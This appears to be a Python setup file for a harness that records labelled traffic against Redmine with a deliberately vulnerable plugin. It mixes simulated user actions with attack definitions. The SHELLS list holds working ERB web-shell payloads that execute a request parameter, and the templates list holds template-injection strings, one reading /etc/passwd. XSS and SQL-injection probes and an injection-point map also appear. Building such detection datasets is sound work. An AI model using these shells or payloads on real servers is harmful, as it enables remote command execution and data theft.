"""Redmine (Debian) on puma's threads with PostgreSQL: Rails' routes and `_method`, and a vulnerable plugin."""
import os
import shutil
import subprocess
from pathlib import Path
from urllib.parse import urlencode

from recorder.application import Application, Person, as_www_data
from recorder.attacks import Planting, Surface, Write
from recorder.databases import Postgres
from recorder.desk import card, find, link, newsletter, pay, script, signin, wall, webhook
from recorder.injections import Place, Secrets
from recorder.labels import Label
from recorder.users import outside

HERE = Path(__file__).parent
PEOPLE = [Person(login, f"pw-{login}-2024", "") for login in "admin kim lou ida bo sam eve max zoe ned amy rex ina tom uma jon".split()]
LETTERS = ["Dear <%= name %>, about <%= params[:case] %>: it is done.", "Hello <%= name %>!", "<% if params[:case] %>Case <%= params[:case] %> is yours.<% end %>"]


def environment(instance):
    return {"RAILS_ENV": "production", "RAILS_SERVE_STATIC_FILES": "1", "REDMINE_INSTANCE": "default", "BUNDLE_WITHOUT": "test:development", "SECRET_KEY_BASE": "0" * 64,
            "HOME": str(instance.folder / "tmp"), "ACCESS_LOG": str(instance.folder / "log" / "access.log"), "REDMINE_LANG": "en"}


def prepare(instance):
    app = instance.folder / "app"
    shutil.copytree("/usr/share/redmine", app, dirs_exist_ok=True, ignore=shutil.ignore_patterns("instances", "Gemfile.lock", "database.yml", "plugin_assets"))
    for part in ("config", "log", "tmp", "files", "public/plugin_assets"):
        (app / "instances" / "default" / part).mkdir(parents=True, exist_ok=True)
    shutil.copytree(HERE / "desk", app / "plugins" / "desk", dirs_exist_ok=True)
    shutil.copy(HERE / "config.ru", app)
    (app / "Gemfile.local").write_text("gem 'puma'\n")
    database = f"production:\n  adapter: postgresql\n  host: {instance.folder}/postgres\n  port: {instance.database.port}\n  database: app\n  username: app\n  password: app\n"
    (app / "instances" / "default" / "config" / "database.yml").write_text(database)
    (app / "config" / "database.yml").write_text(database)
    env = os.environ | environment(instance)
    for command in (["bundle", "install", "--local", "--quiet"], ["bin/rake", "db:migrate"], ["bin/rake", "redmine:load_default_data"], ["bin/rails", "runner", str(HERE / "seed.rb")]):
        subprocess.run(command, cwd=app, env=env, check=True, capture_output=True)
    subprocess.run(["chown", "-R", "www-data:www-data", app, instance.folder / "tmp", instance.folder / "log"], check=True)


def server(instance):
    puma = ["puma", "--dir", instance.folder / "app", "--bind", f"tcp://127.0.0.1:{instance.port}", "--threads", "4:4", "--environment", "production", "config.ru"]
    return as_www_data(*puma), environment(instance)


def jobs(instance):
    return [f"{instance.database.dump} | gzip > {instance.folder}/tmp/backup.gz", f"find {instance.folder}/tmp -mmin +60 -name '*.gz' -delete"]


async def login(client, person):
    await client.submit("/login", {"username": person.login, "password": person.password})


async def guess(client, name, password, label):
    await client.submit("/login", {"username": name, "password": password}, label=label)


async def read(u):
    await u.client.visit(u.rand.choice(["/projects/quay", "/projects/quay/issues", "/issues?set_filter=1&sort=id:desc", "/projects/quay/activity", "/projects/quay/wiki", "/my/page", "/news"]))
    if await u.think(0.2, 0.8):
        await u.client.visit(f"/issues/{u.rand.randint(1, 60)}")


async def search(u):
    await u.client.visit("/search?" + urlencode({"q": u.texts.query(), "issues": "1", "wiki_pages": "1"}))


async def new_issue(u):
    await u.client.submit("/projects/quay/issues/new", {"issue[subject]": u.texts.title(), "issue[description]": u.texts.prose()})


async def comment(u):
    await u.client.submit(f"/issues/{u.rand.randint(1, 60)}/edit", {"issue[notes]": f"{u.texts.prose()}\n\n<pre>{u.texts.prose()}</pre>"})


async def wiki(u):
    await u.client.submit("/projects/quay/wiki/Wiki/edit", {"content[text]": f"h1. {u.texts.word()}\n\n{u.texts.prose()}\n\n* {u.texts.prose()}", "content[comments]": u.texts.word()})


async def account(u):
    await u.client.submit("/my/account", {"user[firstname]": u.texts.name()[:28], "user[lastname]": u.rand.choice(["O'Brien", "Meyer", "d'Arc", "Ng"])})


async def administer(u):
    if u.person.login != "admin":
        return await read(u)
    await u.client.visit(u.rand.choice(["/admin", "/users", "/users?name=o%27n", "/settings", "/admin/info", "/groups", "/projects/quay/settings"]))


async def ranking(u):
    await u.client.visit(f"/desk/ranking?by={u.rand.choice(['id', 'title', 'priority desc', 'title desc', 'priority'])}")


async def join(u):
    await u.client.visit("/desk/wall")
    await u.client.visit(f"/desk/join?event={u.rand.randint(1, 30)}&note={u.texts.word()}")


async def upload(u):
    name, kind, content = u.texts.file()
    await u.client.submit("/desk/files", {}, files={"upload": (name, kind, content)})
    if await u.think(0.1, 0.5):
        await u.client.call("GET", f"/desk/file?file={name.replace(' ', '%20')}")
    if name == "notes.txt":
        await u.client.submit("/desk/files", {"name": name})


async def letter(u):
    await u.client.submit("/desk/letter", {"text": u.rand.choice(LETTERS), "case": str(u.rand.randint(1, 60))})


async def sheet(u):
    if u.person.login == "admin":
        await u.client.submit("/desk/files", {}, files={"upload": ("prices.erb", "text/plain", b"<ul><% rows.each do |row| %><li><%= row[1] %></li><% end %></ul>")})
    await u.client.visit(f"/desk/sheets/prices?week={u.rand.randint(1, 52)}")


async def export(u):
    await u.client.visit("/desk/export") if u.rand.random() < 0.5 else await u.client.visit("/issues.csv")


async def odd_upload(u):
    name, content = u.rand.choice([("list.php.png", b"\x89PNG\r\n"), ("logo.svg", b"<svg xmlns='http://www.w3.org/2000/svg'><title>mine</title></svg>"), ("notes.html", b"<p>Hello</p>"), ("setup.rb", b"puts 'hello'\n")])
    await u.client.submit("/desk/files", {}, files={"upload": (name, "application/octet-stream", content)})


async def odd_question(u):
    text = "How is <script>alert(1)</script> escaped? Our DBA says: UPDATE users SET city = 'x' WHERE id = 5 -- or <img src=x onerror=alert(1)>, is that bad? ' OR 1=1"
    await u.client.submit(f"/issues/{u.rand.randint(1, 60)}/edit", {"issue[notes]": text})


async def new_feature(u):
    await u.client.visit(f"/issues?set_filter=1&f[]=status_id&op[status_id]=o&limit={u.rand.randint(5, 20)}&c[]=subject&c[]=author")


async def api_client(episode, rand):
    await outside(episode, rand).call("GET", f"/issues.json?limit=5&offset={rand.randint(0, 9)}")


async def crawler(episode, rand):
    for path in ("/robots.txt", "/projects", "/sitemap.xml", "/wp-login.php", "/favicon.ico"):
        await outside(episode, rand, "ExampleBot/2.1 (+https://bot.example/about)").visit(path)
        await episode.pause(0.5)


SHELLS = [b"<pre><%= `#{params[:c]}` %></pre>", b"<% require 'open3' %><%= Open3.capture2e(params[:c].to_s).first %>", b"GIF89a<%= IO.popen(params[:c]).read %>"]


async def shell(attack):
    name = f"week{attack.rand.randrange(999)}"
    await attack.client.submit("/desk/files", {}, files={"upload": (f"{name}.erb", attack.rand.choice(["image/gif", "text/plain"]), attack.rand.choice(SHELLS))}, label=Label("web-shell", "upload", 0))
    return f"/desk/sheets/{name}"


FILTER = {"below": {"priority": 3}, "starts": "B"}
PATCH = {"_method": "patch"}
ATTACKS = Surface(
    dialect="postgresql",
    secrets=Secrets("desk_members", "login", "pass", ("role", "fullname", "email", "phone", "street", "city")),
    reads=[Place("GET", "/desk/find", "word", "like", ")", "ntt"), Place("GET", "/desk/cases/{}", "", "number", "", "ntt")],
    orders=[Place("GET", "/desk/ranking", "by", "order", "", "title,body")],
    stacked=[Place("GET", "/desk/cases/{}", "", "number")],
    updates=[Place("POST", "/desk/card", "note", others={"city": "Cork"} | PATCH)],
    json=[Place("POST", "/desk/filter", "starts", "like", "", "nt", FILTER, "json"), Place("POST", "/desk/filter", "below.priority", "number", "", "nt", FILTER, "json")],
    logins=[Place("POST", "/desk/signin", "login", others={"pass": "x"})],
    guess=guess,
    reflected=[Place("GET", "/desk/find", "word")],
    plantings=[Planting("/desk/wall", "text", "/desk/wall"), Planting("/desk/wall", "text", "/desk/wall"), Planting("/desk/card", "fullname", "/desk/wall")],
    writes=[Write("/desk/card", {"fullname": "Kim {}", "email": "kim{}@mail.example", "phone": "555 {}", "street": "{} Far Away", "city": "Nowhere", "note": "none"}, PATCH), Write("/desk/wall", {"text": "agreed {}"})],
    guarded_writes=[Write("/issues/7", {"issue[notes]": "gone {}"}, PATCH, "/issues/7/edit", "authenticity_token")],
    changing_gets=["/desk/join?event={}&note=all", "/desk/join?event=7&note={}"],
    private=["/desk/export"],
    shell=shell,
    commands=[Place("POST", "/desk/size", "name", honest="notes.txt")],
    templates=[(Place("POST", "/desk/letter", "text", others={"case": "5"}), ["<%= `COMMAND` %>", "<%= IO.popen('COMMAND').read %>", "<%= 7 * 7 %><%= File.read('/etc/passwd') %>", "<%= Kernel.send(:`, 'COMMAND') %>"])],
    files=[Place("GET", "/desk/file", "file", honest="notes.txt")],
    fetches=[Place("POST", "/desk/link", "address")],
)
APPLICATION = Application(
    name="redmine", database=Postgres, packages=("redmine", "redmine-pgsql", "puma", "postgresql"),
    debconf=("redmine redmine/instances/default/dbconfig-install boolean false",),  # its own database server is started later
    prepare=prepare, server=server, ready="/desk/find", access_log="log/access.log",
    actions=[(6, read), (2, search), (2, new_issue), (3, comment), (1, wiki), (1, account), (1, administer), (3, find), (1, ranking), (2, card), (2, wall), (1, join), (1, upload), (1, link), (1, letter), (2, script), (1, pay), (1, signin), (1, sheet), (1, export)],
    odd_actions=[newsletter, odd_upload, odd_question, new_feature],
    others=[(9, webhook), (12, api_client), (40, crawler)],
    login=login, people=PEOPLE, pages=["/projects/quay/issues", "/desk/find", "/desk/wall", "/desk/files"], attacks=ATTACKS, jobs=jobs,
)
